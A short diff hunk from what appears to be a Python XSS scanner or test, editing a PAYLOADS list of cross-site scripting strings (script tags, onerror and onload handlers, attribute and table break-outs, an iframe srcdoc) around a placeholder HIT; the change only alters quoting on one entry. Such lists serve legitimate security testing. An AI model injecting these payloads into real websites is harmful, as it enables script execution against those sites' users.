@@ -13,7 +13,7 @@ PAYLOADS = [
     f"<script>{HIT}</script>",
     f"<img src=x onerror={HIT}>",
     f"<svg onload={HIT}>",
-    f"\"><script>{HIT}</script>",
+    f'"><script>{HIT}</script>',
     f"' onmouseover='{HIT}' x='",
     f"</td></tr></tbody></table><script>{HIT}</script>",
     f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
